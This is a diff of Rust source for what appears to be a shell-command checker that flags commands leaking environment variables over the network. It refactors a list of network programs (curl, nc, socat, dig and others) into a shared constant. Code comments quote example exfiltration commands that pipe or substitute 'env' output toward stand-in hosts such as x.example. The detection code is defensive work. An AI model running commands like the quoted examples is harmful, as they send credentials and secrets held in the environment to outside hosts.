@@ -21,43 +21,6 @@ const NETWORK: &[&str] = &[
     "xh",
 ];
 
-/// Programs that reach another host with what their arguments say: a substitution printing the
-/// environment there (`dig $(env | base32).x.example`, `git clone https://x/$(env | base64)`)
-/// sends it out.
-const NETWORK_ARGUMENTS: &[&str] = &[
-    "curl",
-    "wget",
-    "nc",
-    "ncat",
-    "netcat",
-    "socat",
-    "telnet",
-    "ssh",
-    "openssl",
-    "http",
-    "https",
-    "xh",
-    "dig",
-    "nslookup",
-    "host",
-    "drill",
-    "ping",
-    "ping6",
-    "traceroute",
-    "git",
-    "gh",
-    "scp",
-    "sftp",
-    "rsync",
-    "ftp",
-    "pip",
-    "pip3",
-    "npm",
-    "mail",
-    "mailx",
-    "sendmail",
-];
-
 /// The programs [`dumps_environment`] knows.
 const ENVIRONMENT_PRINTERS: &[&str] = &[
     "env", "printenv", "set", "export", "declare", "typeset", "compgen",
@@ -503,7 +466,7 @@ pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
     dev_tcp(cmd, out);
     let name = cmd.name();
     let args = cmd.args();
-    if NETWORK_ARGUMENTS.contains(&name)
+    if shell::NETWORK_PROGRAMS.contains(&name)
         && args
             .iter()
             .any(|arg| substitutes_environment(arg, cmd.fuel))
@@ -526,7 +489,7 @@ pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
         }
     }
     // `env | xargs -I% curl x.example/%`: what the pipe carries becomes the arguments.
-    if NETWORK_ARGUMENTS.contains(&name)
+    if shell::NETWORK_PROGRAMS.contains(&name)
         && cmd.simple.origin == Origin::Xargs
         && xargs_fed_environment(cmd)
     {
